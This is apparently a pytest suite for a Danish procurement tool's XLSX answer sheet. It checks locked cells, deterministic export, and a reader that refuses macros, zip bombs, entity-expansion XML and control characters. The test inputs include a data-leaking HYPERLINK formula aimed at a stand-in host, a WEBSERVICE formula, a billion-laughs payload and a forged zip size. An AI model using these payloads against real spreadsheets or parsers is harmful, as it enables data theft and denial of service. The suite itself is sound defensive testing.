"""The XLSX answer sheet: written the same for the same selection, locked where the vendor must
not write, with a drop-down of the choices in the selection's language, text always as text;
read back trusting nothing: macros, damaged zips, zip bombs, document types, foreign
spreadsheets, control characters and formulas are refused or kept as text, in one line; and a
sheet filled by openpyxl and saved again by LibreOffice imports the same answers."""

from __future__ import annotations

import io
import os
import shutil
import sqlite3
import struct
import subprocess
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from kravtui.answers.records import Choice
from kravtui.answers.sent import sent_selection
from kravtui.answers.store import answers_of_set, import_answers
from kravtui.application.export import ExportError, check_target, export_selection
from kravtui.catalogue.vocabulary import Importance
from kravtui.interchange.answer_sheet import answer_sheet_bytes
from kravtui.interchange.answer_sheet_layout import CELL_LIMIT
from kravtui.interchange.answer_sheet_read import read_answer_sheet
from kravtui.interchange.errors import InterchangeError
from kravtui.interchange.ooxml_zip import PART_LIMIT
from kravtui.selection.items import edit_item, get_item
from kravtui.selection.records import SelectionInfo
from kravtui.selection.store import update_info
from tests.answers_helpers import dialogue_catalogue


@pytest.fixture
def dialogue(tmp_path: Path) -> Iterator[tuple[sqlite3.Connection, int]]:
    conn, selection_id = dialogue_catalogue(tmp_path / "c.db")
    yield conn, selection_id
    conn.close()


def export_sheet(conn: sqlite3.Connection, selection_id: int, path: Path) -> Path:
    target = check_target(conn, path, create_folder=False)
    export_selection(conn, selection_id, target, "answer-sheet")
    return path


def fill(path: Path, answers: dict[str, tuple[object, object, object]], out: Path) -> Path:
    """The sheet at `path` filled in as a vendor does (openpyxl standing in for Excel)."""
    workbook = load_workbook(path)
    sheet = workbook.worksheets[0]
    for row in range(2, sheet.max_row + 1):
        uid = sheet.cell(row=row, column=1).value
        if uid in answers:
            for column, value in zip((5, 6, 7), answers[uid], strict=True):
                sheet.cell(row=row, column=column).value = value
    workbook.save(out)
    return out


ANSWERS: dict[str, tuple[object, object, object]] = {
    "SIK-1": ("Ja", None, None),
    "SIK-2": ("Ja, delvist", "TLS 1.3.\nIkke i arkivet.", None),
    "LOG-1": ("Ja, som tilkøb", None, 12500.5),
    "ARK-1": ("Nej", "  Ikke på\u202e vores platform", "Inkluderet"),
}


def part(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.read(name).decode("utf-8")


def repack(data: bytes, changes: dict[str, bytes | None]) -> bytes:
    """The package `data` with parts replaced, added or (None) removed."""
    output = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            if name not in changes:
                target.writestr(name, source.read(name))
        for name, content in changes.items():
            if content is not None:
                target.writestr(name, content)
    return output.getvalue()


# --- writing ----------------------------------------------------------------------------------


def test_text_that_looks_like_a_formula_is_written_as_text(
    dialogue: tuple[sqlite3.Connection, int],
) -> None:
    conn, selection_id = dialogue
    item = get_item(conn, selection_id, "LOG-1")
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"Klik")'
    edit_item(conn, selection_id, "LOG-1", replace(item.snapshot, title=hostile))
    data = answer_sheet_bytes(sent_selection(conn, selection_id))
    sheet = part(data, "xl/worksheets/sheet1.xml")
    assert "<f>" not in sheet and "<f " not in sheet
    workbook = load_workbook(io.BytesIO(data))
    cell = workbook.worksheets[0]["B4"]
    assert (cell.value, cell.data_type) == (hostile, "s")


def test_a_text_longer_than_a_cell_is_refused_and_nothing_written(
    dialogue: tuple[sqlite3.Connection, int], tmp_path: Path
) -> None:
    conn, selection_id = dialogue
    item = get_item(conn, selection_id, "SIK-2")
    edit_item(
        conn,
        selection_id,
        "SIK-2",
        replace(item.snapshot, description="x" * (CELL_LIMIT + 1)),
    )
    path = tmp_path / "svar.xlsx"
    with pytest.raises(ExportError) as refused:
        export_sheet(conn, selection_id, path)
    assert "longer than a spreadsheet cell holds" in str(refused.value)
    assert "\n" not in str(refused.value)
    assert not path.exists()


def test_the_same_selection_gives_the_same_bytes(
    dialogue: tuple[sqlite3.Connection, int], tmp_path: Path
) -> None:
    conn, selection_id = dialogue
    first = export_sheet(conn, selection_id, tmp_path / "a.xlsx").read_bytes()
    second = export_sheet(conn, selection_id, tmp_path / "b.xlsx").read_bytes()
    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as package:
        assert {info.date_time for info in package.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert "2000-01-01T00:00:00Z" in part(first, "docProps/core.xml")


def test_the_sheet_locks_the_requirement_and_offers_the_choices(
    dialogue: tuple[sqlite3.Connection, int], tmp_path: Path
) -> None:
    conn, selection_id = dialogue
    path = export_sheet(conn, selection_id, tmp_path / "svar.xlsx")
    workbook = load_workbook(path)
    sheet, meta = workbook.worksheets
    assert sheet.title == "Besvarelse" and meta.sheet_state == "hidden"
    headers = [cell.value for cell in sheet[1]]
    assert headers == [
        "Kravnummer",
        "Navn",
        "Beskrivelse",
        "Prioritet",
        "Svar",
        "Uddybning",
        "Pris",
    ]
    assert [sheet.cell(row=r, column=1).value for r in range(2, 6)] == [
        "SIK-1",
        "SIK-2",
        "LOG-1",
        "ARK-1",
    ]
    assert sheet["D2"].value == "Mindstekrav"
    assert sheet.protection.sheet and sheet.protection.password is None
    assert all(sheet.cell(row=2, column=c).protection.locked for c in range(1, 5))
    assert not any(sheet.cell(row=2, column=c).protection.locked for c in range(5, 8))
    (validation,) = sheet.data_validations.dataValidation
    assert validation.type == "list" and str(validation.sqref) == "E2:E5"
    listed = [meta[f"D{row}"].value for row in range(1, 6)]
    assert listed == ["Ja", "Ja, som tilkøb", "Ja, delvist", "Nej", "Ikke relevant"]
    assert sheet.freeze_panes == "A2"


def test_an_english_selection_gets_an_english_sheet_without_priorities(
    dialogue: tuple[sqlite3.Connection, int], tmp_path: Path
) -> None:
    conn, selection_id = dialogue
    update_info(
        conn,
        selection_id,
        SelectionInfo(title="New ECM", language="en", priority_enabled=False),
    )
    workbook = load_workbook(export_sheet(conn, selection_id, tmp_path / "answers.xlsx"))
    sheet, meta = workbook.worksheets
    assert sheet.title == "Answers" and sheet["E1"].value == "Answer"
    assert sheet["D2"].value is None
    assert meta["D2"].value == "Yes, as an add-on"


# --- reading: refused in one line -------------------------------------------------------------


@pytest.fixture
def exported(dialogue: tuple[sqlite3.Connection, int], tmp_path: Path) -> Path:
    return export_sheet(*dialogue, tmp_path / "svar.xlsx")


def refused(path: Path, text: str) -> None:
    with pytest.raises(InterchangeError) as raised:
        read_answer_sheet(path)
    message = str(raised.value)
    assert text in message and "\n" not in message, message


def test_a_macro_enabled_workbook_is_refused(exported: Path, tmp_path: Path) -> None:
    xlsm = tmp_path / "svar.xlsm"
    shutil.copy(exported, xlsm)
    refused(xlsm, "holds macros")
    inside = tmp_path / "inside.xlsx"
    inside.write_bytes(repack(exported.read_bytes(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
    refused(inside, "holds macros")
    typed = tmp_path / "typed.xlsx"
    types = part(exported.read_bytes(), "[Content_Types].xml").replace(
        "sheet.main+xml", "sheet.macroEnabled.main+xml"
    )
    typed.write_bytes(repack(exported.read_bytes(), {"[Content_Types].xml": types.encode()}))
    refused(typed, "holds macros")


def test_a_damaged_zip_and_other_files_are_refused(exported: Path, tmp_path: Path) -> None:
    damaged = tmp_path / "damaged.xlsx"
    damaged.write_bytes(exported.read_bytes()[:2000])
    refused(damaged, "not an XLSX or DOCX file, or a damaged one")
    text = tmp_path / "notes.xlsx"
    text.write_text("Ja;Nej\n")
    refused(text, "not an XLSX or DOCX file")
    docx_like = tmp_path / "doc.xlsx"
    docx_like.write_bytes(repack(exported.read_bytes(), {"xl/workbook.xml": None}))
    refused(docx_like, "not a spreadsheet")
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(repack(exported.read_bytes(), {"xl/worksheets/sheet1.xml": b"<worksheet"}))
    refused(broken, "damaged")


def test_a_zip_bomb_is_refused_by_its_declared_sizes(exported: Path, tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.xlsx"
    bomb.write_bytes(repack(exported.read_bytes(), {"xl/media/zeros.bin": bytes(PART_LIMIT + 1)}))
    assert bomb.stat().st_size < 1024 * 1024
    refused(bomb, "expands to more than")
    # A part that lies about its size: the directory says 4 GB.
    data = bytearray(exported.read_bytes())
    directory = data.index(b"PK\x01\x02")
    struct.pack_into("<I", data, directory + 24, 0xFFFFFFF0)
    liar = tmp_path / "liar.xlsx"
    liar.write_bytes(bytes(data))
    with pytest.raises(InterchangeError):
        read_answer_sheet(liar)


def test_a_document_type_declaration_is_refused(exported: Path, tmp_path: Path) -> None:
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><sst>&lol2;</sst>'
    )
    path = tmp_path / "laughs.xlsx"
    path.write_bytes(repack(exported.read_bytes(), {"xl/sharedStrings.xml": laughs.encode()}))
    refused(path, "declares a document type")


def test_a_spreadsheet_that_is_not_an_answer_sheet_is_refused(tmp_path: Path) -> None:
    workbook = Workbook()
    workbook.active.append(["Kravnummer", "Navn", "Svar"])
    workbook.active.append(["SIK-1", "Login", "Ja"])
    path = tmp_path / "own.xlsx"
    workbook.save(path)
    refused(path, "not a kravtui answer sheet")


@pytest.mark.parametrize(
    ("cell", "value", "text"),
    [
        ("B1", "kravtui-answer-sheet/7", "of a newer kravtui"),
        ("B1", "something else", "not a kravtui answer sheet"),
        ("B2", "tre", "not a kravtui answer sheet"),
        ("B8", "not-a-hash", "not a kravtui answer sheet"),
    ],
)
def test_a_changed_hidden_sheet_is_refused(
    exported: Path, tmp_path: Path, cell: str, value: str, text: str
) -> None:
    workbook = load_workbook(exported)
    workbook["kravtui"][cell] = value
    path = tmp_path / "changed.xlsx"
    workbook.save(path)
    refused(path, text)


def test_control_characters_are_refused_naming_the_cell(exported: Path, tmp_path: Path) -> None:
    """Excel writes a control character as `_x001B_`; it is read as the character, refused."""
    sheet = part(exported.read_bytes(), "xl/worksheets/sheet1.xml")
    hostile = sheet.replace(
        '<c r="F3" s="5" t="n"></c>',
        '<c r="F3" s="5" t="inlineStr"><is><t>Se _x001B_[2Jbilag</t></is></c>',
    )
    assert hostile != sheet
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(repack(exported.read_bytes(), {"xl/worksheets/sheet1.xml": hostile.encode()}))
    refused(path, "hostile.xlsx:Besvarelse!F3: the character U+001B")


def test_special_files_are_refused(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.xlsx"
    os.mkfifo(fifo)
    refused(fifo, "not a regular file")
    refused(tmp_path, "folder")


# --- reading: what a vendor sends -------------------------------------------------------------


def test_a_filled_sheet_imports_its_answers(
    dialogue: tuple[sqlite3.Connection, int], exported: Path, tmp_path: Path
) -> None:
    conn, selection_id = dialogue
    filled = fill(exported, ANSWERS, tmp_path / "udfyldt.xlsx")
    returned = read_answer_sheet(filled)
    assert returned.source_name == "udfyldt.xlsx"
    assert [row.priority for row in returned.rows] == [
        Importance.ABSOLUTE,
        Importance.HIGH,
        Importance.NORMAL,
        Importance.OPTIONAL,
    ]
    result = import_answers(conn, selection_id, "Firma A/S", returned)
    assert result.report.complete, result.report
    stored = answers_of_set(conn, result.answer_set.id)
    assert stored["LOG-1"].choice is Choice.YES_ADDON
    assert (stored["LOG-1"].price, stored["LOG-1"].price_amount) == ("12500.5", 1_250_050)
    assert stored["SIK-2"].elaboration == "TLS 1.3.\nIkke i arkivet."
    assert stored["ARK-1"].elaboration == "Ikke på\u202e vores platform"
    assert stored["ARK-1"].price_amount is None


def test_formulas_are_read_as_their_text_never_evaluated(
    dialogue: tuple[sqlite3.Connection, int], exported: Path, tmp_path: Path
) -> None:
    conn, selection_id = dialogue
    answers = dict(ANSWERS, **{"LOG-1": ("Ja, som tilkøb", '=WEBSERVICE("x")', "=100*2")})
    returned = read_answer_sheet(fill(exported, answers, tmp_path / "formler.xlsx"))
    result = import_answers(conn, selection_id, "Firma A/S", returned)
    stored = answers_of_set(conn, result.answer_set.id)["LOG-1"]
    assert (stored.elaboration, stored.price, stored.price_amount) == (
        '=WEBSERVICE("x")',
        "=100*2",
        None,
    )


def test_requirement_text_changed_in_the_sheet_is_flagged(
    dialogue: tuple[sqlite3.Connection, int], exported: Path, tmp_path: Path
) -> None:
    conn, selection_id = dialogue
    workbook = load_workbook(exported)
    workbook.worksheets[0]["C2"] = "Administratorer logger ind med én faktor."
    workbook.worksheets[0]["D5"] = "Mindstekrav"
    path = tmp_path / "rettet.xlsx"
    workbook.save(path)
    result = import_answers(conn, selection_id, "Firma A/S", read_answer_sheet(path))
    assert result.report.text_changed == ("SIK-1", "ARK-1")


def test_a_sheet_of_another_selection_is_refused_whole(
    dialogue: tuple[sqlite3.Connection, int], exported: Path
) -> None:
    conn, _ = dialogue
    from kravtui.answers.errors import AnswersError
    from kravtui.selection.store import create_selection

    other = create_selection(conn, SelectionInfo(title="Andet udbud"))
    with pytest.raises(AnswersError, match="answers another selection, not 'Andet udbud'"):
        import_answers(conn, other.id, "Firma A/S", read_answer_sheet(exported))
    assert conn.execute("SELECT count(*) FROM answer_set").fetchone()[0] == 0


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.slow
@pytest.mark.xdist_group("libreoffice")
@pytest.mark.skipif(_soffice() is None, reason="LibreOffice (soffice) is not installed")
def test_a_sheet_saved_again_by_libreoffice_imports_the_same_answers(
    dialogue: tuple[sqlite3.Connection, int], exported: Path, tmp_path: Path
) -> None:
    conn, selection_id = dialogue
    filled = fill(exported, ANSWERS, tmp_path / "udfyldt.xlsx")
    out = tmp_path / "libreoffice"
    profile = tmp_path / "profile"
    subprocess.run(
        [
            str(_soffice()),
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(filled),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    resaved = out / "udfyldt.xlsx"
    assert resaved.read_bytes() != filled.read_bytes()
    direct = import_answers(conn, selection_id, "Direkte", read_answer_sheet(filled))
    through = import_answers(conn, selection_id, "LibreOffice", read_answer_sheet(resaved))
    assert through.report == replace(direct.report, source_name="udfyldt.xlsx")
    assert answers_of_set(conn, through.answer_set.id) == answers_of_set(conn, direct.answer_set.id)


def test_a_sheet_of_far_more_rows_than_were_sent_is_refused(
    exported: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kravtui.interchange import answer_sheet_read

    monkeypatch.setattr(answer_sheet_read, "EXTRA_ROWS", 3)
    workbook = load_workbook(exported)
    for row in range(6, 10):
        workbook.worksheets[0].cell(row=row, column=1).value = f"EXTRA-{row}"
    path = tmp_path / "long.xlsx"
    workbook.save(path)
    refused(path, "more than 7 rows")
